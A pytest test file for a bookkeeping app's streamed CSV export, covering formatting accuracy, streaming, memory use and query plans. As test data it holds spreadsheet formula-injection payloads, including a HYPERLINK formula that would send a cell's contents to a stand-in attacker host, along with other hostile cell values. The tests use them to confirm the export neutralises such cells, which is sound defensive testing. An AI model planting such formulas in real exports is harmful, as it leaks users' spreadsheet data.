"""The bookkeeping CSV export (server/export.py): streamed, in constant memory, both dialects exact.

Over the real HTTP API on SQLite and PostgreSQL. Correctness: every row of both
dialects equals the row formatted the slow, obvious way (zoneinfo per row,
floreyn.text.csv_cell per cell, csv.writer) from the same postings, formulas
neutralised, and with hostile text in every column the bytes are the same as
that Python formatter's (PostgreSQL formats in SQL, so this is what keeps the
two rule books one).
Streaming: the first rows reach the client while the server has not read the
last; memory: formatting 40 times the batch size costs no more than a few batches.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
import time
import threading
import tracemalloc
import uuid

import pytest
import requests
from sqlalchemy import select

from floreyn.server import export, reports, state
from floreyn.server import schema as s
from floreyn.server.db import Database
from floreyn.text import csv_cell

PERIOD = {"from": "2000-01-01", "to": "2999-12-31"}
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"klik")', "+31 6 kwaad", "-2+3", "@SUM(A1:A9)", "\tverborgen")
PLAIN_TEXT = ("puntkomma; komma, \"aanhalingstekens\"\nen een nieuwe regel", "-12.50")  # a plain number stays one
BATCH_ROWS = 50
FILL_PAIRS = 10_000  # 20,000 postings: 400 batches, some 2.4 MB of CSV
WAIT_S = 30.0


def _download(srv, **params) -> requests.Response:
    return srv.session.get(srv.base_url + "/v1/admin/reports/export.csv", params={**PERIOD, **params},
                           headers={"Authorization": f"Bearer {srv.admin_token}"}, stream=True, timeout=WAIT_S)


def _fill(db, pairs: int, memo_chars: int = 20) -> None:
    """Balanced synthetic transfers spread over a year (DST changes included), written straight to the ledger."""
    rng = random.Random(7)
    start_ms = state.day_start_ms(dt.date(2031, 1, 1))
    txs, postings = [], []
    for n in range(pairs):
        tx_id, at_ms = f"fill-{uuid.uuid4().hex}", start_ms + n * (366 * 86_400_000 // pairs) + rng.randint(0, 999)
        amount = rng.randint(1, 99_999)
        txs.append({"tx_id": tx_id, "kind": "reversal", "created_ms": at_ms, "memo": "x" * memo_chars,
                    "terminal_id": "-T" if n % 7 == 0 else None})  # an id a spreadsheet would read as a formula
        postings += [{"tx_id": tx_id, "account": "member:a", "currency": "fl", "amount_cents": -amount,
                      "kind": "reversal", "created_ms": at_ms},
                     {"tx_id": tx_id, "account": "member:b", "currency": "fl", "amount_cents": amount,
                      "kind": "reversal", "created_ms": at_ms}]

    def write(conn):
        conn.execute(s.transactions.insert(), txs)
        conn.execute(s.postings.insert(), postings)
    db.write(write)


def _expected(db, dialect: str) -> list[list[str]]:
    """Every posting formatted the obvious way, in posting order."""
    p, t = s.postings.c, s.transactions.c
    rows = db.read(lambda conn: conn.execute(
        select(p.created_ms, p.tx_id, p.kind, p.account, p.currency, p.amount_cents, t.terminal_id, t.record_seq,
               t.merchant_id, t.card_id, t.reverses, t.memo)
        .join_from(s.postings, s.transactions, t.tx_id == p.tx_id).order_by(p.id)).all())
    decimal = "," if dialect == "nl" else "."
    out = []
    for ms, tx_id, kind, account, currency, cents, terminal, seq, merchant, card, reverses, memo in rows:
        when = dt.datetime.fromtimestamp(ms / 1000, state.TZ)
        amount = f"{'-' if cents < 0 else ''}{abs(cents) // 100}{decimal}{abs(cents) % 100:02d}"
        cells = [when.date().isoformat(), when.strftime("%H:%M:%S"), tx_id, kind, account, currency, amount,
                 cents, terminal, seq, merchant, card, reverses, memo]
        out.append([str(csv_cell("" if v is None else str(v) if not isinstance(v, str) else v)) for v in cells])
    return out


def _hold_at_batch(monkeypatch, number: int, go_on: threading.Event) -> list[int]:
    """Small batches, and the server's generator waits before sending batch `number` until `go_on` (bounded);
    the rows in each batch it formatted are returned as they come (CRLFs, so a memo with a CRLF counts twice)."""
    monkeypatch.setattr(export, "EXPORT_BATCH_ROWS", BATCH_ROWS)
    batches: list[int] = []
    chunks = export._chunks

    def held_chunks(*args):
        for chunk in chunks(*args):
            batches.append(chunk.count(b"\r\n"))
            if len(batches) == number:
                assert go_on.wait(WAIT_S), "the client never went on"
            yield chunk

    monkeypatch.setattr(export, "_chunks", held_chunks)
    return batches


@pytest.fixture(scope="module")
def ledger_with_formulas(srv, world):
    member, _ = world.member(eur_cents=5_000)
    for reason in FORMULAS + PLAIN_TEXT:
        top = srv.admin("POST", "/v1/admin/desk/topup", {"member_id": member, "eur_cents": 100})
        srv.admin("POST", f"/v1/admin/transactions/{top['tx_id']}/reverse", {"reason": reason})
    _fill(srv.ctx.db, FILL_PAIRS)
    return srv.ctx.db


@pytest.mark.parametrize("dialect", ["plain", "nl"])
def test_both_dialects_equal_the_obvious_formatting_with_formulas_neutralised(srv, ledger_with_formulas, dialect):
    with _download(srv, dialect=dialect) as resp:
        assert resp.status_code == 200 and "content-length" not in resp.headers  # chunked: streamed, not built
        raw = resp.content
    text = raw.decode("utf-8")
    if dialect == "nl":
        assert text.startswith("\ufeff")
        text = text[1:]
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if dialect == "nl" else ","))
    header = [export.HEADERS_NL[c] for c in export.CSV_COLUMNS] if dialect == "nl" else list(export.CSV_COLUMNS)
    assert rows[0] == header
    assert rows[1:] == _expected(ledger_with_formulas, dialect)
    memos = {r[-1] for r in rows[1:]}
    assert {"'" + reason for reason in FORMULAS} <= memos and set(PLAIN_TEXT) <= memos
    assert any(r[8] == "'-T" for r in rows[1:])  # ids are neutralised too
    assert sum(int(r[7]) for r in rows[1:] if r[5] == "fl") == 0


def test_the_first_rows_arrive_before_the_server_reads_the_last(srv, ledger_with_formulas, monkeypatch):
    """The server's generator is held at its second batch until the client has read the first: a server
    that built the file before sending would never send those bytes, and the read would time out."""
    first_read = threading.Event()
    batches = _hold_at_batch(monkeypatch, 2, first_read)
    with _download(srv) as resp:
        lines = resp.iter_lines()
        got = [next(lines) for _ in range(1 + BATCH_ROWS)]  # the header and the whole first batch
        assert len(batches) <= 2 and got[0].startswith(b"date,time,")
        first_read.set()
        rest = sum(1 for _ in lines)
    assert len(batches) > 10 and sum(batches) >= 2 * FILL_PAIRS
    assert rest >= 2 * FILL_PAIRS - BATCH_ROWS


def test_memory_stays_bounded_by_the_batch_not_the_export(srv, ledger_with_formulas, monkeypatch):
    monkeypatch.setattr(export, "EXPORT_BATCH_ROWS", BATCH_ROWS)
    db = ledger_with_formulas
    total = 0
    for _ in export.csv_export(db, PERIOD["from"], PERIOD["to"]):
        pass  # once before measuring: the compiled statement and the lazy imports are not the export's rows
    tracemalloc.start()
    try:
        for chunk in export.csv_export(db, PERIOD["from"], PERIOD["to"]):
            total += len(chunk)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert total > 2 * FILL_PAIRS * 60
    assert peak < total / 4, f"peak {peak:,} bytes for an export of {total:,} bytes"


def _transfer(tx_id: str, at_ms: int) -> tuple[dict, list[dict]]:
    tx = {"tx_id": tx_id, "kind": "reversal", "created_ms": at_ms, "memo": ""}
    return tx, [{"tx_id": tx_id, "account": f"member:{side}", "currency": "fl", "amount_cents": cents,
                 "kind": "reversal", "created_ms": at_ms} for side, cents in (("a", -5), ("b", 5))]


def test_a_period_exports_its_rows_in_posting_order_when_times_and_ids_disagree(srv):
    """Postings written out of time order (a till's day uploaded late): the period's rows and only those, in
    posting order, though rows outside the period lie between them by id (SQLite reads the id range)."""
    day = state.day_start_ms(dt.date(2040, 3, 10))
    written = [("in-1", day), ("after", day + 40 * 86_400_000), ("in-2-earlier", day - 5 * 86_400_000),
               ("before", day - 30 * 86_400_000), ("in-3", day + 10 * 86_400_000)]
    suffix = uuid.uuid4().hex[:8]  # the module's database is shared: these rows are this test's own
    made = [_transfer(f"{name}-{suffix}", at_ms) for name, at_ms in written]

    def write(conn):  # one at a time, so the ids follow the list's order
        for tx, postings in made:
            conn.execute(s.transactions.insert(), [tx])
            conn.execute(s.postings.insert(), postings)
    srv.ctx.db.write(write)
    text = b"".join(export.csv_export(srv.ctx.db, "2040-03-01", "2040-03-31")).decode()
    tx_ids = [row[2] for row in csv.reader(io.StringIO(text))][1:]
    assert tx_ids == [f"{name}-{suffix}" for name in ("in-1", "in-1", "in-2-earlier", "in-2-earlier", "in-3", "in-3")]
    empty = b"".join(export.csv_export(srv.ctx.db, "2041-01-01", "2041-01-31")).decode()
    assert empty.count("\r\n") == 1  # the header only


def test_sqlite_reads_the_period_in_id_order_without_sorting_it(tmp_path):
    """No temporary B-tree: SQLite would otherwise sort the whole period (a temporary file of ~100 MB per
    million postings) before the first row went out. The plan holds with statistics too (ANALYZE)."""
    db = Database(f"sqlite:///{tmp_path / 'plan.db'}")
    db.migrate()
    try:
        _fill(db, 2_000)
        start, end = reports.period(*PERIOD.values())
        for analysed in (False, True):
            if analysed:
                db.write(lambda conn: conn.exec_driver_sql("ANALYZE"))
            plan = db.read(lambda conn: conn.exec_driver_sql(
                "EXPLAIN QUERY PLAN " + export.sqlite_select_sql(start, end, 1, 4_000)
            ).all())
            steps = " | ".join(str(row[-1]) for row in plan)
            assert "TEMP B-TREE" not in steps and "INTEGER PRIMARY KEY" in steps, steps
            tx_plan = db.read(lambda conn: conn.exec_driver_sql(
                "EXPLAIN QUERY PLAN " + export.SQLITE_TX_RANGE_SQL, (1, 100)).all())
            tx_steps = " | ".join(str(row[-1]) for row in tx_plan)  # the transactions too: a rowid range
            assert "TEMP B-TREE" not in tx_steps and "INTEGER PRIMARY KEY" in tx_steps, tx_steps
    finally:
        db.dispose()


def test_local_time_matches_zoneinfo_across_summer_time_changes():
    clock = export._LocalClock()
    rng = random.Random(3)
    changes = [dt.datetime(2031, 3, 30, tzinfo=dt.UTC), dt.datetime(2031, 10, 26, tzinfo=dt.UTC)]
    stamps = sorted(int(c.timestamp() * 1000) + rng.randint(0, 4 * 3_600_000) for c in changes for _ in range(5_000))
    for ms in stamps:
        when = dt.datetime.fromtimestamp(ms / 1000, state.TZ)
        assert clock(ms) == (when.date().isoformat(), when.strftime("%H:%M:%S")), ms


def test_a_bad_period_or_dialect_is_refused_before_the_stream_starts(srv):
    bad = srv.admin("GET", "/v1/admin/reports/export.csv", expect=422, **{"from": "2020-02-30", "to": "2020-03-01"})
    assert bad["error"] == "request_invalid"
    wrong = srv.admin("GET", "/v1/admin/reports/export.csv", expect=422, dialect="excel", **PERIOD)
    assert wrong["error"] == "request_invalid"


def test_a_download_broken_off_gives_the_connection_back(srv, ledger_with_formulas, monkeypatch):
    """A client that hangs up mid-export must not leave a read transaction open (on SQLite it would keep
    the WAL from being checkpointed; on PostgreSQL it would hold a pooled connection and a snapshot)."""
    hung_up = threading.Event()
    batches = _hold_at_batch(monkeypatch, 3, hung_up)
    pool = srv.ctx.db.snapshot_reader.pool
    idle = pool.checkedout()
    resp = _download(srv)
    lines = resp.iter_lines()
    for _ in range(1 + BATCH_ROWS):
        next(lines)
    assert pool.checkedout() == idle + 1  # the export holds its connection while it streams
    resp.close()  # hang up without reading the rest
    hung_up.set()
    deadline = time.monotonic() + WAIT_S
    while pool.checkedout() > idle and time.monotonic() < deadline:
        time.sleep(0.05)
    assert pool.checkedout() == idle
    assert len(batches) < 2 * FILL_PAIRS // BATCH_ROWS  # it stopped, it did not read on to the end


# Cells a spreadsheet or a CSV parser could trip over, in every text column the export writes.
HOSTILE_TEXT = ("=1+1", "+31 6", "-2+3", "@SUM(A1)", "\tx", "\rx", "-12.50", "+3", "-3,5", "-٣", "'al", "",
                'a "quoted" word', "semi;colon", "com,ma", "new\nline", "cr\r\nlf", "lone\rcr", "ctl\x01\x0b\x1f\x7f\x85",
                "\\N", "\\.", '""', " lead space", "€ café 😀 ñ", "=", "-", ";", ",")
HOSTILE_AMOUNTS = (0, 1, 5, 9, 10, 99, 100, 101, 1_234, 100_000, 9_000_000_000_000_000)


def _fill_hostile(db) -> None:
    """Rows whose every text cell is hostile (NUL too on SQLite; PostgreSQL stores no NUL in text), at times on
    both sides of both summer-time changes, with amounts either side of every rounding edge."""
    texts = HOSTILE_TEXT + (("nul\x00byte",) if db.is_sqlite else ())
    edges = [state.day_start_ms(dt.date(2032, 3, 28)) + 3_600_000, state.day_start_ms(dt.date(2032, 10, 31)) + 7_200_000]
    txs, postings = [], []
    for n, text in enumerate(texts * 3):
        short, cents = text[:3], HOSTILE_AMOUNTS[n % len(HOSTILE_AMOUNTS)]
        tx_id = f"{text[:40]}#{n}"
        at_ms = edges[n % 2] + (n - len(texts)) * 997
        txs.append({"tx_id": tx_id, "kind": text[:16], "created_ms": at_ms, "memo": text,
                    "terminal_id": text or None, "record_seq": None if n % 4 else n, "card_id": text[:32] or None,
                    "merchant_id": text, "reverses": f"{text[:50]}#{n}" if n % 3 else None})
        postings += [{"tx_id": tx_id, "account": text, "currency": short, "amount_cents": sign * cents,
                      "kind": text[:16], "created_ms": at_ms} for sign in (-1, 1)]

    def write(conn):
        conn.execute(s.transactions.insert(), txs)
        conn.execute(s.postings.insert(), postings)
    db.write(write)


def _reference_bytes(db, dialect: str) -> bytes:
    """The export as the plain Python formatter writes it: every cell through csv_cell, csv.writer's quoting."""
    form = export.DIALECTS[dialect]
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=form.delimiter, lineterminator="\r\n")
    writer.writerow([csv_cell(h) for h in form.headers])
    writer.writerows(_expected(db, dialect))
    return (form.preamble + buf.getvalue()).encode()


@pytest.mark.parametrize("dialect", ["plain", "nl"])
def test_hostile_cells_export_byte_for_byte_as_the_python_formatter_writes_them(srv, ledger_with_formulas, dialect):
    db = ledger_with_formulas
    if not db.read(lambda conn: conn.execute(select(s.transactions.c.tx_id)
                                             .where(s.transactions.c.tx_id == "=1+1#0")).first()):
        _fill_hostile(db)
    with _download(srv, dialect=dialect) as resp:
        assert resp.status_code == 200
        got = resp.content
    want = _reference_bytes(db, dialect)
    assert got.count(b"\r\n") > 2 * FILL_PAIRS and b"'=1+1" in got and b"'-\xd9\xa3" in got
    if got != want:  # the first line that differs, not two 2 MB strings
        mismatch = next(((g, w) for g, w in zip(got.split(b"\r\n"), want.split(b"\r\n"), strict=False) if g != w),
                        (len(got), len(want)))
        pytest.fail(f"export differs from the Python formatter: {mismatch!r}")


def test_a_unicode_digit_is_no_plain_number():
    """The plain-number exception is ASCII digits only, so PostgreSQL's regular expression means the same."""
    assert csv_cell("-٣") == "'-٣" and csv_cell("-3,5") == "-3,5" and csv_cell("+3") == "+3"


@pytest.mark.parametrize("rows", [
    [b"a,b\n", b"c,d\n"],  # no LF inside a cell: joined and replaced at once
    [b'a,"new\nline"\n', b"c,d\n"],  # a LF inside a quoted cell stays a LF
    [b'a,"cr\r\nlf"\n', b'"lone\rcr",d\n', b"e\n"],
    [memoryview(b'x,"\n\n"\n'), memoryview(b"y\n")],  # libpq's rows come as memoryviews
    [b"\n"],
])
def test_copy_rows_end_with_crlf_and_keep_the_lfs_inside_cells(rows):
    assert export._crlf(rows) == b"".join(bytes(row)[:-1] + b"\r\n" for row in rows)


def test_sqlite_rows_equal_the_python_formatter_when_transactions_lie_out_of_order_or_are_missing(tmp_path, monkeypatch):
    """SQLite reads each batch's transactions as the next rows of their table (they are written just before their
    postings); transactions written in another order (a restore), far behind, far ahead, or not at all (a JOIN
    leaves the posting out) must give the same bytes, with batches, fetches (a chunk of three, a transaction's
    postings split between two) and read-ahead small enough to cross them."""
    monkeypatch.setattr(export, "EXPORT_BATCH_ROWS", 7)
    monkeypatch.setattr(export, "SQLITE_FETCH_ROWS", 3)
    monkeypatch.setattr(export, "_TX_SLACK_ROWS", 2)
    db = Database(f"sqlite:///{tmp_path / 'order.db'}")
    db.migrate()
    try:
        rng = random.Random(11)
        at_ms = state.day_start_ms(dt.date(2033, 5, 1))
        made = [_transfer(f"t{n:03d}", at_ms + n * 61_000) for n in range(120)]
        for n, (tx, _) in enumerate(made):
            tx["memo"] = HOSTILE_TEXT[n % len(HOSTILE_TEXT)]
        tx_order = list(range(120))
        tx_order[10:40] = rng.sample(tx_order[10:40], 30)  # shuffled
        tx_order = tx_order[50:60] + tx_order[:50] + tx_order[60:]  # a block written ahead of its turn
        orphans = {7, 55, 90}  # postings whose transaction is never written

        def write(conn):
            conn.execute(s.transactions.insert(), [made[n][0] for n in tx_order if n not in orphans])
            conn.execute(s.postings.insert(), [p for _, postings in made for p in postings])
        db.write(write)
        for dialect in ("plain", "nl"):
            got = b"".join(export.csv_export(db, *PERIOD.values(), dialect=dialect))
            assert got == _reference_bytes(db, dialect)
            text = got.decode().lstrip("\ufeff")
            rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=export.DIALECTS[dialect].delimiter))
            assert len(rows) == 1 + 2 * (120 - len(orphans))
    finally:
        db.dispose()


def test_sqlite_amount_cents_held_as_no_integer_is_formatted_by_the_amount_sql(tmp_path):
    """Only a write around the ledger could store one; the export writes it as the SQL amount always has."""
    db = Database(f"sqlite:///{tmp_path / 'odd.db'}")
    db.migrate()
    try:
        tx, postings = _transfer("odd", state.day_start_ms(dt.date(2033, 6, 1)))
        postings[0]["amount_cents"] = -1234
        odd = {**postings[1], "amount_cents": "12x"}  # INTEGER affinity keeps text that is no number as text
        db.write(lambda conn: (conn.execute(s.transactions.insert(), [tx]), conn.execute(s.postings.insert(), [postings[0]]),
                               conn.exec_driver_sql("INSERT INTO postings (tx_id, account, currency, amount_cents, kind, "
                                                    "created_ms) VALUES (:tx_id, :account, :currency, :amount_cents, "
                                                    ":kind, :created_ms)", odd)))
        for dialect in ("plain", "nl"):
            form = export.DIALECTS[dialect]
            want = db.read(lambda conn, form=form: conn.exec_driver_sql(
                f"SELECT {export._amount_sql(form.decimal)} FROM postings p ORDER BY p.id").scalars().all())
            text = b"".join(export.csv_export(db, *PERIOD.values(), dialect=dialect)).decode().lstrip("\ufeff")
            rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=form.delimiter))[1:]
            assert [r[6] for r in rows] == want and [r[7] for r in rows] == ["-1234", "12x"]
    finally:
        db.dispose()


def test_sqlite_reads_transactions_written_in_order_as_ranges_not_one_by_one(tmp_path, monkeypatch):
    """The ledger writes a transaction just before its postings: after the first batch (which finds where the
    range starts), no batch looks its transactions up by tx_id (a random index page each)."""
    monkeypatch.setattr(export, "EXPORT_BATCH_ROWS", 100)
    lookups: list[int] = []
    by_id = export.sqlite_tx_by_id_sql
    monkeypatch.setattr(export, "sqlite_tx_by_id_sql", lambda count: lookups.append(count) or by_id(count))
    db = Database(f"sqlite:///{tmp_path / 'ranges.db'}")
    db.migrate()
    try:
        _fill(db, 2_000)
        got = b"".join(export.csv_export(db, *PERIOD.values()))
        assert got == _reference_bytes(db, "plain")
        assert lookups == [50]  # the first batch's 50 transactions; 39 more batches read ranges
    finally:
        db.dispose()
